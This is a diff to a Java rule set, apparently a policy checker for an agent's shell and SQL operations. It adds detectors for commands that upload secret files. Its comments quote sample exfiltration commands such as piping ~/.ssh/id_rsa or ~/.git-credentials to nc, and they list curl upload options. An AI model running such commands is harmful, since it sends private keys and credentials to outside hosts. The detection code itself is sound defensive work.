@@ -1,5 +1,15 @@
 package dev.hydra.constitution.rules;
 
+import dev.hydra.constitution.rules.facts.Extractor;
+import dev.hydra.constitution.rules.facts.Facts;
+import dev.hydra.constitution.rules.facts.Programs;
+import dev.hydra.constitution.rules.facts.Recorder;
+import dev.hydra.constitution.rules.shell.Shell;
+import dev.hydra.constitution.rules.sql.Sql;
+import dev.hydra.constitution.rules.text.PathGlob;
+import dev.hydra.constitution.rules.text.Secrets;
+import dev.hydra.constitution.rules.text.Text;
+
 import dev.hydra.topics.events.Decision;
 import java.util.List;
 import java.util.Locale;
@@ -31,7 +41,7 @@ interface Rule {
             for (Sql.Statement st : f.statements) {
                 for (String r : st.renderings()) {
                     if (regex.matcher(r).lookingAt()) { // the statement does it, not mentions it
-                        return "SQL statement matches '" + regex.pattern() + "': " + Extractor.shorten(r);
+                        return "SQL statement matches '" + regex.pattern() + "': " + Recorder.shorten(r);
                     }
                 }
             }
@@ -51,7 +61,7 @@ interface Rule {
                     if (!op.statements().isEmpty() || op.tool().endsWith("execute_sql")) {
                         for (Sql.Statement st : op.statements()) {
                             if (st.verb().equals(with)) {
-                                return op.via() + " runs " + Extractor.shorten(st.rendering());
+                                return op.via() + " runs " + Recorder.shorten(st.rendering());
                             }
                         }
                         continue;
@@ -67,7 +77,7 @@ interface Rule {
                     }
                     return op.via() + " would send a secret (" + found.get(0).kind() + ")";
                 }
-                return op.via() + " is " + glob + (op.text().isEmpty() ? "" : " on " + Extractor.shorten(op.text().strip()));
+                return op.via() + " is " + glob + (op.text().isEmpty() ? "" : " on " + Recorder.shorten(op.text().strip()));
             }
             return null;
         }
@@ -136,9 +146,7 @@ interface Rule {
                 if (secrets != null) {
                     String args = String.join(" ", e.argv());
                     List<Secrets.Found> found = secrets.find(args);
-                    boolean secretFile = e.argv().stream().anyMatch(a -> a.startsWith("[secret file ")
-                            || a.contains("@") && Extractor.isSecretFile(PathGlob.canonical(
-                            a.substring(a.lastIndexOf('@') + 1), "/")));
+                    boolean secretFile = uploadsSecretFile(e) || readsSecretFile(f);
                     if (found.isEmpty() && !secretFile) {
                         continue;
                     }
@@ -151,20 +159,52 @@ interface Rule {
         }
     }
 
+    /**
+     * A sender given a secret file: as an operand, an option's value (-T, --upload-file, --post-file=,
+     * -F key=@file, -d @file) or its standard input (nc host < ~/.ssh/id_rsa).
+     */
+    private static boolean uploadsSecretFile(Shell.Exec e) {
+        for (String a : e.argv().subList(1, e.argv().size())) {
+            if (a.startsWith("[secret file ")) {
+                return true;
+            }
+            String candidate = a.substring(Math.max(a.lastIndexOf('@'), a.indexOf('=')) + 1);
+            if (!candidate.isEmpty() && Recorder.isSecretPath(PathGlob.canonical(candidate, "/root"))) {
+                return true;
+            }
+        }
+        for (Shell.Redirect r : e.redirects()) {
+            if (!r.writes() && Recorder.isSecretPath(PathGlob.canonical(r.target(), "/root"))) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /** Some program of the same command reads a secret file (cat ~/.git-credentials | nc host 9000). */
+    private static boolean readsSecretFile(Facts f) {
+        for (Shell.Exec e : f.execs) {
+            if (!e.argv().isEmpty() && uploadsSecretFile(e)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
     /** {@code config_change}: a setting that turns the named thing on (or its opposite off). */
     record ConfigChange(String name) implements Rule {
         @Override
         public String test(Facts f) {
             for (Facts.Setting s : f.settings) {
                 if (matches(s.key(), s.value())) {
-                    return s.via() + " sets " + s.key() + "=" + Extractor.shorten(s.value());
+                    return s.via() + " sets " + s.key() + "=" + Recorder.shorten(s.value());
                 }
             }
             return null;
         }
 
         boolean matches(String key, String value) {
-            boolean on = !Extractor.falsy(value);
+            boolean on = !Recorder.falsy(value);
             if (key.equals(name) || key.endsWith("_" + name) || key.startsWith(name + "_")
                     || key.contains("_" + name + "_")) {
                 return on;
@@ -237,7 +277,7 @@ interface Rule {
         public String test(Facts f) {
             for (Facts.Commit c : f.commits) {
                 for (String file : c.files()) {
-                    if (Extractor.isSecretFile(file)) {
+                    if (Recorder.isSecretFile(file)) {
                         return c.via() + " commits the secret file " + file;
                     }
                 }
@@ -263,8 +303,7 @@ interface Rule {
                 String path = w.path();
                 if (PathGlob.isGlob(path)) {
                     // a wildcard deletes inside its fixed directory part: that part must be inside
-                    int wild = firstWild(path);
-                    path = path.substring(0, Math.max(0, path.lastIndexOf('/', wild))) + "/x";
+                    path = PathGlob.fixedDirectory(path) + "/x";
                 }
                 String p = path;
                 if (excluded.stream().noneMatch(g -> g.matches(p))) {
@@ -272,16 +311,6 @@ interface Rule {
                 }
             }
             return null;
-        }
-
-        private static int firstWild(String path) {
-            for (int i = 0; i < path.length(); i++) {
-                char c = path.charAt(i);
-                if (c == '*' || c == '?' || c == '[' || c == Shell.UNKNOWN) {
-                    return i;
-                }
-            }
-            return path.length();
         }
     }
 
